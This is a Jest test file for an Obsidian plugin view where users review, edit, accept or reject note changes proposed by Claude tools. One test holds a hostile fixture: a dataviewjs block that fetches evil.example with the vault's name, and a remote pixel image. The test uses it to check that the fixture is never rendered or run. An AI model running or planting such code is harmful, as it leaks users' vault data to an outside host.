import type { WorkspaceLeaf as RealLeaf } from "obsidian";
import type { AcceptOutcome, PendingReview } from "../../../src/review/edit-proposal";
import { DIFF_VIEW_TYPE, DiffReviewView, type DiffReviewActions } from "../../../src/obsidian/review/diff-view";
import { App, FakeElement, MarkdownRenderer, notices, Scope, WorkspaceLeaf } from "../../__mocks__/obsidian";
import { unreachableByKeyboard } from "../../helpers/keyboard-reach";
import { buildWorkspace, closeWorkspace, markdownViewOf, settle } from "../harness/workspace-builder";

const review: PendingReview = {
	id: 1,
	title: "✻ [Claude Code] note.md (abc123) ⧉",
	note: { relative: "Notes/note.md", absolute: "/vault/Notes/note.md" },
	before: "# Title\n\nThe quick brown fox.\n",
	after: "# Title\n\nThe quick red fox.\n",
	isNewFile: false,
	sessionId: 1,
	proposer: { surface: "ide", client: "claude-code", session: 1, tool: "openDiff" },
	since: new Date(0),
};

class RecordingActions implements DiffReviewActions {
	readonly calls: string[] = [];
	/** What the review manager answers an Accept with. */
	acceptOutcome: AcceptOutcome = { kind: "accepted" };
	accept(shown: PendingReview, finalText: string): AcceptOutcome {
		this.calls.push(`accept ${shown.id} ${JSON.stringify(finalText)}`);
		return this.acceptOutcome;
	}
	reject(shown: PendingReview, reason?: string): void {
		this.calls.push(`reject ${shown.id}${reason === undefined ? "" : ` ${JSON.stringify(reason)}`}`);
	}
	closed(shown: PendingReview): void {
		this.calls.push(`closed ${shown.id}`);
	}
}

function finder(view: DiffReviewView) {
	const root = view.contentEl as unknown as FakeElement;
	const one = (cls: string): FakeElement => {
		const found = root.findAll(cls)[0];
		if (!found) throw new Error(`no .${cls}`);
		return found;
	};
	return { root, one };
}

function openView(shown: PendingReview = review) {
	const leaf = new WorkspaceLeaf(new App("/vault", "Vault"));
	const view = new DiffReviewView(leaf as unknown as RealLeaf);
	const actions = new RecordingActions();
	view.load();
	view.showReview(shown, actions);
	return { view, actions, ...finder(view) };
}

afterEach(() => {
	jest.restoreAllMocks();
});

const texts = (elements: FakeElement[]): string[] => elements.map((el) => el.textContent);

/** Types `text` into the proposal, in place (Edit, then the text box). */
function editProposal(one: (cls: string) => FakeElement, text: string): void {
	if (one("ccb-review-edit").text === "Edit") one("ccb-review-edit").dispatch("click");
	const box = one("ccb-review-editor");
	box.value = text;
	box.dispatch("input");
}

describe("DiffReviewView", () => {
	it("shows the proposal as suggestions in the note's own text: the old word struck, the new one underlined, inline", () => {
		const { root, view } = openView();
		expect(view.getDisplayText()).toBe("Review: note.md");
		expect(view.getState()).toEqual({ tabName: review.title, path: "Notes/note.md" });
		expect(texts(root.findAll("ccb-suggest-removed"))).toEqual(["brown"]);
		expect(texts(root.findAll("ccb-suggest-added"))).toEqual(["red"]);
		expect(root.findAll("ccb-suggest")[0]?.textContent).toContain("The quick brownred✓✕ fox.");
		expect(root.findAll("ccb-suggest-removed")[0]?.tag).toBe("del");
		expect(root.findAll("ccb-suggest-added")[0]?.tag).toBe("ins");
		// Not the line diff: no line numbers.
		expect(root.findAll("ccb-diff-number")).toEqual([]);
		expect(root.findAll("ccb-review-tab").map((tab) => [tab.text, tab.hasClass("is-active")])).toEqual([
			["Suggestions", true],
			["Line diff", false],
		]);
	});

	it("the decision bar names the proposer (client, session, tool), the note once and the time, and counts the changes", () => {
		const { root, one } = openView({
			...review,
			since: new Date("2026-11-27T09:05:00Z"),
			after: "# Title!\n\nThe quick red fox.\n",
		});
		const bar = one("ccb-review-bar");
		// Who proposes, in words; the program, its connection and the tool only on hover.
		expect(one("ccb-review-proposer").text).toBe("Claude Code in the terminal proposes a change to");
		expect(one("ccb-review-who").attributes.get("title")).toBe("claude-code · session 1 · openDiff");
		expect(bar.textContent).not.toMatch(/openDiff|claude-code|session 1/);
		expect(one("ccb-review-time").attributes.get("datetime")).toBe("2026-11-27T09:05:00.000Z");
		expect(one("ccb-review-summary").text).toBe("2 changes");
		expect(bar.findAll("ccb-review-accept")).toHaveLength(1);
		expect(root.textContent.split("Notes/note.md")).toHaveLength(2);
		const vaultTool = openView({
			...review,
			proposer: { surface: "vault-tools", client: "Claude's vault tools", tool: "edit_note" },
		});
		expect(vaultTool.one("ccb-review-proposer").text).toBe("Claude's vault tools propose a change to");
		expect(vaultTool.one("ccb-review-who").attributes.get("title")).toBe("Claude's vault tools · edit_note");
		expect(vaultTool.one("ccb-review-summary").text).toBe("1 change");
	});

	it("Accept all is the call to action; Reject is a plain secondary button", () => {
		const { one } = openView();
		expect(one("ccb-review-accept").text).toBe("Accept all");
		expect(one("ccb-review-accept").hasClass("mod-cta")).toBe(true);
		expect([...one("ccb-review-reject").classes]).toEqual(["ccb-review-reject"]);
	});

	it("accepts or rejects each change on its own, and sends back the note as decided", () => {
		const proposedText = "# Title, renamed\n\nThe quick red fox.\n";
		const { actions, root, one } = openView({ ...review, after: proposedText });
		expect(root.findAll("ccb-suggest-change")).toHaveLength(2);
		root.findAll("ccb-suggest-reject")[0]?.dispatch("click");
		expect(one("ccb-review-summary").text).toBe("2 changes, 1 rejected");
		expect(one("ccb-review-accept").text).toBe("Accept 1 of 2");
		root.findAll("ccb-suggest-accept")[0]?.dispatch("click");
		expect(
			root
				.findAll("ccb-suggest-change")
				.map((change) => [...change.classes].filter((cls) => cls.startsWith("is-"))),
		).toEqual([["is-rejected"], ["is-accepted"]]);
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify("# Title\n\nThe quick red fox.\n")}`]);
	});

	it("an undone decision counts as undecided again", () => {
		const { actions, root, one } = openView();
		one("ccb-suggest-reject").dispatch("click");
		one("ccb-suggest-undo").dispatch("click");
		expect(root.findAll("ccb-suggest-reject")).toHaveLength(1);
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
	});

	it("folds long unchanged stretches into a button that shows them", () => {
		const lines = Array.from({ length: 20 }, (_, index) => `Line ${index + 1}.`);
		const before = `${lines.join("\n")}\n`;
		const { root, one } = openView({
			...review,
			before: before,
			after: before.replace("Line 10.", "Line ten.").replace("Line 20.", "Line twenty."),
		});
		expect(texts(root.findAll("ccb-suggest-fold"))).toEqual(["8 unchanged lines", "7 unchanged lines"]);
		expect(root.textContent).not.toContain("Line 4.");
		one("ccb-suggest-fold").dispatch("click");
		expect(texts(root.findAll("ccb-suggest-fold"))).toEqual(["7 unchanged lines"]);
		expect(root.textContent).toContain("Line 4.");
	});

	it("keeps the monospace line diff on a second tab, side by side with Before and After", () => {
		const { root, one } = openView();
		expect(root.findAll("ccb-review-layout")).toEqual([]);
		root.findAll("ccb-review-tab")[1]?.dispatch("click");
		expect(root.findAll("ccb-diff-unified")).toHaveLength(1);
		expect(texts(root.findAll("ccb-diff-word-removed"))).toEqual(["brown"]);
		expect(texts(root.findAll("ccb-diff-word-added"))).toEqual(["red"]);
		one("ccb-review-layout").dispatch("click");
		expect(root.findAll("ccb-diff-side-by-side")).toHaveLength(1);
		expect(texts(root.findAll("ccb-diff-label"))).toEqual(["Before", "After"]);
		root.findAll("ccb-review-tab")[0]?.dispatch("click");
		expect(root.findAll("ccb-suggest")).toHaveLength(1);
	});

	it("never hands unaccepted text to MarkdownRenderer (no plugin code blocks, no remote images)", () => {
		const render = jest.spyOn(MarkdownRenderer, "render");
		const hostile =
			"# Title\n\n```dataviewjs\nfetch('https://evil.example/?' + app.vault.getName())\n```\n\n![](https://evil.example/pixel.png)\n";
		const { root, one } = openView({ ...review, after: hostile });
		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
		root.findAll("ccb-review-tab")[1]?.dispatch("click");
		one("ccb-review-layout").dispatch("click");
		editProposal(one, `${hostile}more\n`);
		one("ccb-review-edit").dispatch("click");
		expect(render).not.toHaveBeenCalled();
		// The proposal is shown as text: the code block and the image link are visible, not run or loaded.
		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
		expect(root.textContent).toContain("```dataviewjs");
	});

	it("accepts the proposal unchanged, byte for byte", () => {
		const { actions, one } = openView();
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
	});

	it("says why when the review manager refuses the Accept (the note's folder was replaced meanwhile)", () => {
		const { actions, one } = openView();
		actions.acceptOutcome = {
			kind: "refused",
			reason: "Notes/note.md was not saved: its path now leads out of the vault",
		};
		notices.length = 0;
		one("ccb-review-accept").dispatch("click");
		expect(notices).toEqual(["Not accepted: Notes/note.md was not saved: its path now leads out of the vault."]);
	});

	it("edits the proposal in place: the user's words are marked You, apart from Claude's, and sent back exactly", () => {
		const { actions, one, root } = openView();
		one("ccb-review-edit").dispatch("click");
		expect(one("ccb-review-editor").value).toBe(review.after);
		expect(one("ccb-review-edit").text).toBe("Done editing");
		const edited = "# Title\r\n\r\nThe quick red fox sat down.\n";
		editProposal(one, edited);
		expect(one("ccb-review-accept").text).toBe("Accept with my edits");
		expect(one("ccb-review-summary").text).toBe("1 change, edited by you");
		one("ccb-review-edit").dispatch("click");
		expect(texts(root.findAll("ccb-suggest-you")).filter((text) => text !== "You")).toEqual(
			expect.arrayContaining([" sat down"]),
		);
		expect(root.findAll("ccb-suggest-added").map((el) => el.textContent)).toContain("red");
		expect(
			root.findAll("ccb-suggest-you").every((el) => !el.hasClass("ccb-suggest-added") || el.tag === "del"),
		).toBe(true);
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(edited)}`]);
	});

	it("accepts the latest edit even while the user is still typing, and Discard my edits goes back to Claude's proposal", () => {
		const typing = openView();
		editProposal(typing.one, "typed just now\n");
		typing.one("ccb-review-accept").dispatch("click");
		expect(typing.actions.calls).toEqual(['accept 1 "typed just now\\n"']);
		const discarding = openView();
		editProposal(discarding.one, "typed\n");
		discarding.one("ccb-review-edit").dispatch("click");
		discarding.one("ccb-review-discard").dispatch("click");
		expect(discarding.one("ccb-review-accept").text).toBe("Accept all");
		discarding.one("ccb-review-accept").dispatch("click");
		expect(discarding.actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
	});

	it("rejects with the button, and closing the view counts as a rejection", async () => {
		const first = openView();
		first.one("ccb-review-reject").dispatch("click");
		expect(first.actions.calls).toEqual(["reject 1"]);
		const second = openView();
		await second.view.onClose();
		expect(second.actions.calls).toEqual(["closed 1"]);
		expect(second.view.pendingReview).toBeUndefined();
	});

	it("beside Reject, a reason for Claude when the proposer hears one: sent with the button, kept while deciding changes", () => {
		const { root, one, actions } = openView({
			...review,
			proposer: { surface: "panel", client: "Claude Code (agent panel)", tool: "Edit" },
			hearsReason: true,
		});
		const field = one("ccb-review-reason");
		expect(field.tag).toBe("input");
		expect([field.attributes.get("placeholder"), field.attributes.get("aria-label")]).toEqual([
			"Reason for Claude (optional)",
			"Reason for Claude, sent when you reject",
		]);
		field.value = "  the fox stays brown ";
		field.dispatch("input");
		root.findAll("ccb-suggest-reject")[0]?.dispatch("click");
		expect(one("ccb-review-reason").value).toBe("  the fox stays brown ");
		one("ccb-review-reject").dispatch("click");
		expect(actions.calls).toEqual(['reject 1 "the fox stays brown"']);
	});

	it("an IDE client's openDiff review has no reason field (its answer cannot carry one); Reject sends none", () => {
		const { root, one, actions } = openView();
		expect(root.findAll("ccb-review-reason")).toEqual([]);
		one("ccb-review-reject").dispatch("click");
		expect(actions.calls).toEqual(["reject 1"]);
	});

	it("warns about a new note and about a proposal that empties the note", () => {
		const created = openView({ ...review, isNewFile: true, before: "" });
		expect(created.root.textContent).toContain("This note does not exist yet: everything shown is new.");
		const emptied = openView({ ...review, after: "" });
		expect(emptied.root.textContent).toContain(
			"The proposal removes everything in this note. Accepting leaves the note empty.",
		);
		expect(texts(emptied.root.findAll("ccb-suggest-removed"))).toEqual([review.before]);
	});

	it("a proposal that cannot be applied shows why and offers only Reject", () => {
		const { root, one } = openView({
			...review,
			cannotApply: "A note the vault tools cannot show is already at this path.",
		});
		expect(one("ccb-review-cannot-apply").text).toBe("A note the vault tools cannot show is already at this path.");
		expect(root.findAll("ccb-review-accept")).toEqual([]);
		expect(root.findAll("ccb-review-edit")).toEqual([]);
	});

	it("lets the keyboard reach everything a mouse can click, in every state of the review", () => {
		const lines = Array.from({ length: 12 }, (_, index) => `Line ${index + 1}.`).join("\n");
		const { root, one, view } = openView({
			...review,
			before: `${lines}\nThe quick brown fox.\n`,
			after: `${lines.replace("Line 1.", "Line one.")}\nThe quick red fox.\nA new line.\n`,
			hearsReason: true,
		});
		const states: string[][] = [];
		const look = (): void => {
			states.push(unreachableByKeyboard(root));
		};
		expect(root.findAll("ccb-suggest-fold")).toHaveLength(1);
		look();
		root.findAll("ccb-suggest-accept")[0]?.dispatch("click");
		root.findAll("ccb-suggest-reject")[0]?.dispatch("click");
		expect(root.findAll("ccb-suggest-undo")).toHaveLength(2);
		look();
		(view.scope as unknown as Scope).press([], "Escape");
		expect(root.findAll("ccb-review-confirm")).toHaveLength(1);
		look();
		root.findAll("ccb-review-tab")[1]?.dispatch("click");
		look();
		one("ccb-review-layout").dispatch("click");
		look();
		editProposal(one, "mine\n");
		look();
		one("ccb-review-edit").dispatch("click");
		expect(root.findAll("ccb-review-discard")).toHaveLength(1);
		look();
		expect(states).toEqual(states.map(() => []));
	});

	it("names the reviewed note in its tab from the view state alone: before the review is attached and after a restart", async () => {
		const leaf = new WorkspaceLeaf(new App("/vault", "Vault"));
		const view = new DiffReviewView(leaf as unknown as RealLeaf);
		await view.setState({ tabName: "old tab", path: "Projects/plan.md" }, { history: false });
		await view.onOpen();
		expect(view.tabName).toBe("old tab");
		expect(view.getDisplayText()).toBe("Review: plan.md");
		expect((view.contentEl as unknown as FakeElement).textContent).toContain(
			"This review is no longer waiting for a decision.",
		);
	});
});

describe("DiffReviewView while the user edits the note under review", () => {
	const notePath = "Notes/note.md";
	const cleanups: (() => Promise<void>)[] = [];
	afterEach(async () => {
		for (const cleanup of cleanups.splice(0)) await cleanup();
	});

	async function reviewWithNoteOpen() {
		const built = await buildWorkspace({ notes: { [notePath]: review.before }, tabs: [{ path: notePath }] });
		const { app } = built;
		app.viewRegistry.set(DIFF_VIEW_TYPE, (leaf) => new DiffReviewView(leaf as unknown as RealLeaf) as never);
		const leaf = app.workspace.getLeaf("tab");
		await leaf.setViewState({
			type: DIFF_VIEW_TYPE,
			active: true,
			state: { tabName: review.title, path: notePath },
		});
		const view = leaf.view;
		if (!(view instanceof DiffReviewView)) throw new Error("no review view");
		const actions = new RecordingActions();
		view.showReview(review, actions);
		cleanups.push(async () => {
			view.unload();
			await closeWorkspace(app);
		});
		const noteLeaf = built.leaves[0];
		if (!noteLeaf) throw new Error("no note tab");
		return { app, view, actions, noteLeaf, reviewLeaf: leaf, note: markdownViewOf(noteLeaf), ...finder(view) };
	}

	it("typing in the open note after the proposal arrived disables Accept, with the reason, until the user reviews again", async () => {
		const { app, actions, note, one, root } = await reviewWithNoteOpen();
		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(false);
		note.type("# Title\n\nThe quick brown fox.\nMy new line.\n");
		await settle(app);
		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(true);
		expect(one("ccb-review-hold").textContent).toContain(
			"Accept is off: the note changed after Claude proposed this edit.",
		);
		notices.length = 0;
		one("ccb-review-accept").dispatch("click");
		app.pressKey(["Mod"], "Enter");
		expect(actions.calls).toEqual([]);
		expect(notices).toHaveLength(2);
		one("ccb-review-again").dispatch("click");
		await settle(app);
		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(false);
		expect(root.findAll("ccb-review-hold")).toEqual([]);
		// The suggestions now show what Accept does to the note as it is: the user's new line would go.
		expect(texts(root.findAll("ccb-suggest-removed")).join("")).toContain("My new line.");
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
	});

	it("a change on disk (sync, another app) is noticed too; a change back to the proposal's base clears it", async () => {
		const { app, root } = await reviewWithNoteOpen();
		app.vault.writeExternally(notePath, "Rewritten elsewhere.\n");
		await settle(app);
		expect(root.findAll("ccb-review-hold")).toHaveLength(1);
		app.vault.writeExternally(notePath, review.before.replace(/\n/g, "\r\n"));
		await settle(app);
		expect(root.findAll("ccb-review-hold")).toEqual([]);
	});

	it("a change on disk while the user types a reason keeps the box focused, its text and its caret", async () => {
		const { app, view, actions, one, root, reviewLeaf } = await reviewWithNoteOpen();
		view.showReview({ ...review, id: 2, hearsReason: true }, actions);
		app.workspace.setActiveLeaf(reviewLeaf as never);
		const typed = one("ccb-review-reason");
		typed.focus();
		typed.value = "keep it short";
		typed.dispatch("input");
		typed.setSelectionRange(4, 4);
		app.vault.writeExternally(notePath, "Rewritten elsewhere.\n");
		await settle(app);
		expect(root.findAll("ccb-review-hold")).toHaveLength(1);
		const field = one("ccb-review-reason");
		expect(field).not.toBe(typed);
		expect(FakeElement.lastFocused).toBe(field);
		expect([field.value, field.selectionStart, field.selectionEnd]).toEqual(["keep it short", 4, 4]);
		// Without the focus in the box, drawing the bar again leaves the focus where it was.
		field.blur();
		app.vault.writeExternally(notePath, review.before);
		await settle(app);
		expect(root.findAll("ccb-review-hold")).toEqual([]);
		expect(FakeElement.lastFocused).toBeUndefined();
	});

	it("edits to other notes are not the review's business", async () => {
		const { app, actions, one, root } = await reviewWithNoteOpen();
		app.vault.writeExternally("Other.md", "unrelated\n");
		await settle(app);
		expect(root.findAll("ccb-review-hold")).toEqual([]);
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toHaveLength(1);
	});

	it("Mod+Enter accepts while the review has focus, not while the note has", async () => {
		const { app, actions, noteLeaf, reviewLeaf } = await reviewWithNoteOpen();
		app.workspace.setActiveLeaf(noteLeaf as never);
		app.pressKey(["Mod"], "Enter");
		app.pressKey([], "Escape");
		expect(actions.calls).toEqual([]);
		app.workspace.setActiveLeaf(reviewLeaf as never);
		app.pressKey(["Mod"], "Enter");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.after)}`]);
	});

	it("Escape never rejects at once: it asks, with Keep reviewing focused; Escape again keeps reviewing", async () => {
		const { app, actions, one, root } = await reviewWithNoteOpen();
		app.pressKey([], "Escape");
		expect(actions.calls).toEqual([]);
		expect(one("ccb-review-confirm").textContent).toContain("Reject the change? The note stays as it is.");
		expect(FakeElement.lastFocused).toBe(one("ccb-review-keep"));
		app.pressKey([], "Escape");
		expect(root.findAll("ccb-review-confirm")).toEqual([]);
		app.pressKey([], "Escape");
		one("ccb-review-keep").dispatch("click");
		expect(root.findAll("ccb-review-confirm")).toEqual([]);
		expect(actions.calls).toEqual([]);
	});

	it("Reject in Escape's question rejects, with the reason typed for Claude", async () => {
		const { app, actions, one, view } = await reviewWithNoteOpen();
		view.showReview({ ...review, id: 2, hearsReason: true }, actions);
		const field = one("ccb-review-reason");
		field.value = "not now";
		field.dispatch("input");
		app.pressKey([], "Escape");
		expect(actions.calls).toEqual([]);
		one("ccb-review-confirm-reject").dispatch("click");
		expect(actions.calls).toEqual(['reject 2 "not now"']);
	});

	it("Alt+Down and Alt+Up move the focus from change to change, around at the ends, and the view says so", async () => {
		const { app, one, root, view, reviewLeaf } = await reviewWithNoteOpen();
		view.showReview({ ...review, id: 2, after: "# Title!\n\nThe quick red fox.\n" }, new RecordingActions());
		app.workspace.setActiveLeaf(reviewLeaf as never);
		expect(one("ccb-review-keys").text).toBe("Alt+↓ and Alt+↑ (Option on macOS) move between changes");
		const focusedChange = (): string | undefined => FakeElement.lastFocused?.attributes.get("aria-label");
		app.pressKey(["Alt"], "ArrowDown");
		expect(focusedChange()).toBe("Change 1 of 2: '!'");
		app.pressKey(["Alt"], "ArrowDown");
		expect(focusedChange()).toBe("Change 2 of 2: 'red' for 'brown'");
		app.pressKey(["Alt"], "ArrowDown");
		expect(focusedChange()).toBe("Change 1 of 2: '!'");
		app.pressKey(["Alt"], "ArrowUp");
		expect(focusedChange()).toBe("Change 2 of 2: 'red' for 'brown'");
		// From the line diff, the keys bring the suggestions back.
		root.findAll("ccb-review-tab")[1]?.dispatch("click");
		expect(root.findAll("ccb-suggest")).toEqual([]);
		app.pressKey(["Alt"], "ArrowUp");
		expect(focusedChange()).toBe("Change 1 of 2: '!'");
		expect(root.findAll("ccb-suggest")).toHaveLength(1);
	});

	it("while the reason for Claude has focus, the review's keys stay out of it: Alt+Down/Up move its caret, Mod+Enter never accepts, Escape leaves it", async () => {
		const { app, actions, one, root, view, reviewLeaf } = await reviewWithNoteOpen();
		view.showReview({ ...review, id: 2, after: "# Title!\n\nThe quick red fox.\n", hearsReason: true }, actions);
		app.workspace.setActiveLeaf(reviewLeaf as never);
		const field = one("ccb-review-reason");
		field.focus();
		field.value = "keep the title plain";
		field.dispatch("input");
		for (const [modifiers, key] of [
			[["Alt"], "ArrowDown"],
			[["Alt"], "ArrowUp"],
			[["Mod"], "Enter"],
		] as const) {
			app.pressKey([...modifiers], key);
			expect(FakeElement.lastFocused).toBe(field);
			// Left to the text field: its caret moves as in any other text box.
			expect(app.lastKeyEvent?.defaultPrevented).toBe(false);
		}
		expect(actions.calls).toEqual([]);
		expect(field.attributes.get("title")).toBe("Sent to Claude when you reject. Escape leaves this box.");
		// Escape leaves the box for the changes, without asking anything; the reason stays.
		app.pressKey([], "Escape");
		expect(root.findAll("ccb-review-confirm")).toEqual([]);
		expect(FakeElement.lastFocused?.attributes.get("aria-label")).toBe("Change 1 of 2: '!'");
		app.pressKey(["Alt"], "ArrowDown");
		expect(FakeElement.lastFocused?.attributes.get("aria-label")).toBe("Change 2 of 2: 'red' for 'brown'");
		app.pressKey([], "Escape");
		one("ccb-review-confirm-reject").dispatch("click");
		expect(actions.calls).toEqual(['reject 2 "keep the title plain"']);
	});

	it("while typing in the proposal, Alt+Down/Up move the caret; Escape and Mod+Enter do what the view says they do", async () => {
		const { app, actions, one, root, reviewLeaf } = await reviewWithNoteOpen();
		app.workspace.setActiveLeaf(reviewLeaf as never);
		editProposal(one, "mine\n");
		const editor = one("ccb-review-editor");
		expect(FakeElement.lastFocused).toBe(editor);
		expect(one("ccb-review-keys").text).toBe(
			"Escape stops editing; Ctrl+Enter (Cmd+Enter on macOS) accepts with your edits",
		);
		app.pressKey(["Alt"], "ArrowDown");
		expect(FakeElement.lastFocused).toBe(editor);
		expect(app.lastKeyEvent?.defaultPrevented).toBe(false);
		app.pressKey([], "Escape");
		expect(root.findAll("ccb-review-editor")).toEqual([]);
		expect(actions.calls).toEqual([]);
		editProposal(one, "mine\n");
		app.pressKey(["Mod"], "Enter");
		expect(actions.calls).toEqual(['accept 1 "mine\\n"']);
	});

	it("deciding a change keeps the focus on it, now showing its decision and Undo", async () => {
		const { one } = await reviewWithNoteOpen();
		one("ccb-suggest-accept").dispatch("click");
		expect(FakeElement.lastFocused?.attributes.get("aria-label")).toBe(
			"Change 1 of 1: 'red' for 'brown', accepted",
		);
		expect(one("ccb-review-summary").text).toBe("1 change, 1 accepted");
	});

	it("Escape while typing in the proposal ends the typing, it does not reject", async () => {
		const { app, actions, one } = await reviewWithNoteOpen();
		editProposal(one, "mine\n");
		app.pressKey([], "Escape");
		expect(actions.calls).toEqual([]);
		expect(one("ccb-review-edit").text).toBe("Edit");
		app.pressKey(["Mod"], "Enter");
		expect(actions.calls).toEqual(['accept 1 "mine\\n"']);
	});
});
